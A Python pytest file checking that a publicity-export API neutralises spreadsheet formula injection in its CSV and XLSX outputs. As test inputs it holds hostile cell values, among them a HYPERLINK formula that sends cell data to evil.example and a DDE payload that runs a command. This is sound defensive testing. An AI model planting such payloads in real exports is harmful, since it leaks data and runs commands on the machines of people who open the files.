"""Formula injection in exports (issue 10, point 13): every CSV cell starting with
= + - @ TAB CR is prefixed with ', every XLSX text cell is a string cell, never a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest
from harness import Platform, platform

from kit.exports import csv_cell

BASE = "/api/v1/publicity"
NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
         "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
async def zhifa(databases, tmp_path, keys_dir) -> AsyncIterator[Platform]:
    """Publish without the residue hold (`@SUM(…)` would be held for its '@')."""
    overrides = {"publicity": {"hold_on_redaction_residue": False}}
    async with platform(databases, tmp_path, keys_dir, overrides) as p:
        yield p


def test_csv_cell_rule() -> None:
    assert [csv_cell(n) for n in NAMES] == ["'" + n for n in NAMES]
    assert csv_cell("重庆某某食品有限公司") == "重庆某某食品有限公司"
    assert csv_cell(12) == 12 and csv_cell(None) is None


async def test_every_export_neutralises_formulas(zhifa, publicity) -> None:
    from openpyxl import load_workbook

    for name in NAMES:
        await publicity.decide(party={"kind": "organization", "name": name, "id_number": None,
                                      "uscc": "91500112MA5U123456", "phone": None,
                                      "address": None})
    for template in ("natural", "legal"):  # the organisations are in the legal template
        text = (await zhifa.client.get(f"{BASE}/exports/penalties.csv",
                                       params={"template": template})).text
        cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(c for c in cells if c.startswith("'")) == sorted("'" + n for n in NAMES)
    private = await zhifa.client.get(f"{BASE}/exports/credit-upload.csv",
                                     headers=zhifa.headers("sysadmin"))
    rows = list(csv.reader(io.StringIO(private.text.lstrip("\ufeff"))))
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]

    resp = await zhifa.client.get(f"{BASE}/exports/penalties.xlsx")
    sheet = load_workbook(io.BytesIO(resp.content)).active
    names = [n for n in NAMES if "\r" not in n]  # XML turns a bare CR into LF on reading
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in names]
    assert sorted(c.value for c in cells) == sorted(names)  # the text itself, unchanged
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ('f')
